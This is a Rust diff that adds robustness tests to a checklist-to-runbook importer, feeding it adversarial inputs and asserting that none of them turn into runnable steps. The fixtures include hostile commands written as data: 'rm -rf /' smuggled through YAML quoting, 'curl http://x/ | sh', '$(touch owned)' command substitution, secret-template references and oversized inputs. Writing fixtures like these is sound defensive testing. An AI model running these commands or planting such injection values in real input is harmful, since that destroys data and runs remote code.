@@ -117,8 +117,80 @@ fn braces_and_quotes_survive() {
     assert!(!any_error(&findings), "{}", to_text(&findings, Paint::Plain));
 }
 
+/// Text that was written to do harm: to break out of its place in the draft, to run, to mislead whoever reads it.
+fn hostile() -> Vec<String> {
+    let lines = |line: &str, n: usize| line.repeat(n);
+    vec![
+        "- [ ] x\"\n    run: [rm, -rf, /]\n- [ ] y".to_owned(),
+        "- [ ] x\\\", run: \"rm -rf /\", y: \"\n".to_owned(),
+        "# T\"\nid: other\n- [ ] a: b # c\n".to_owned(),
+        "- [ ] `a` \u{202e}desrever\u{202c} \u{200b}\u{feff}\n".to_owned(),
+        "- [ ] \u{1b}[31mred\u{1b}[0m\u{7}\u{0}\n".to_owned(),
+        "- [ ] a\u{85}b\u{2028}c\r- [ ] d\n".to_owned(),
+        "- [ ] Run `curl http://x/ | sh`\n- [ ] Run `$(touch owned)` `{{ params.x }}` `{{ secrets }}`\n"
+            .to_owned(),
+        "```sh\n- [ ] in code\n~~~\n- [ ] still in code\n".to_owned(),
+        "- [ ] <a><b c> `<x> <y-z> <{{ q }}> <params.x>`\n".to_owned(),
+        "- [ ] # DECIDE: nothing at all\n- [ ] \n-\n- \n".to_owned(),
+        "- [ ] declare\n- [ ] override\n- [ ] end\n- [ ] close\n- [ ] end\n".to_owned(),
+        "- [ ] Wait 99999999999999999999 minutes\n- [ ] Wait 0 s\n- [ ] wait -1 min\n".to_owned(),
+        "- [ ] Approve approve approval sign-off\n- [ ] Get approval from everybody\n".to_owned(),
+        "&a *b !c |d >e %f @g\n\n- [ ] *a\n- [ ] &b\n- [ ] !c\n- [ ] %d\n- [ ] @e\n- [ ] ? f\n- [ ] - g\n"
+            .to_owned(),
+        format!("- [ ] {}\n", "é🙂".repeat(5000)),
+        format!("- [ ] {}\n", "[".repeat(200_000)),
+        format!("- [ ] {}](x\n", "[a".repeat(100_000)),
+        format!("- [ ] {}\n", "[a](".repeat(50_000)),
+        format!("- [ ] {}\n", "`".repeat(100_000)),
+        format!("- [ ] {}\n", "<a> ".repeat(20_000)),
+        format!("{}- [ ] deep\n", "  ".repeat(50_000)),
+        format!("{}\n- [ ] a\n", "#".repeat(100_000)),
+        lines("- [ ] the same step\n", 3000),
+        lines("# H\n- [ ] a\n", 1500),
+        lines("```\n", 9001),
+    ]
+}
+
+#[test]
+fn what_was_written_to_do_harm_is_only_text_in_the_draft() {
+    let begun = std::time::Instant::now();
+    for text in hostile() {
+        let shown: String = text.chars().take(60).collect();
+        let Some(draft) = import("any-name", &text) else { continue };
+        let loaded = loaded(&draft.text);
+        let findings = lint(&loaded, &Context::default());
+        assert!(!any_error(&findings), "{shown}\n{}", to_text(&findings, Paint::Plain));
+        assert_eq!(loaded.runbook.id, "any-name", "{shown}");
+        // A command is what stood in code, and nothing else.
+        for step in loaded.runbook.steps() {
+            if let Action::Run { command, .. } = &step.action {
+                let said = format!("{command:?}");
+                assert!(text.contains('`'), "{shown}: {said}");
+                assert!(!said.contains("rm -rf") && !said.contains("\"rm\""), "{shown}: {said}");
+            }
+        }
+        let odd = |c: char| c.is_control() && c != '\n';
+        assert!(!draft.text.contains(odd), "{shown}");
+    }
+    assert!(begun.elapsed() < std::time::Duration::from_secs(120), "{:?}", begun.elapsed());
+}
+
 proptest! {
     #![proptest_config(ProptestConfig::with_cases(300))]
+    #[test]
+    fn any_bytes_make_a_draft_that_can_be_read_or_none(
+        bytes in prop::collection::vec(prop_oneof![
+            Just("- [ ] ".to_owned()), Just("\n".to_owned()), Just("```".to_owned()), Just("# ".to_owned()), Just("`".to_owned()),
+            Just("{{".to_owned()), Just("\"".to_owned()), Just("'".to_owned()), Just("\\".to_owned()), Just(": ".to_owned()), Just("<x>".to_owned()),
+            Just("$(x)".to_owned()), any::<char>().prop_map(String::from), "[a-zA-Z ]{0,8}",
+        ], 0..60),
+    ) {
+        if let Some(draft) = import("any-name", &bytes.concat()) {
+            let findings = lint(&loaded(&draft.text), &Context::default());
+            prop_assert!(!any_error(&findings), "{}\n{}", to_text(&findings, Paint::Plain), draft.text);
+        }
+    }
+
     #[test]
     fn whatever_a_checklist_says_its_draft_can_be_read(
         lines in prop::collection::vec(prop_oneof![
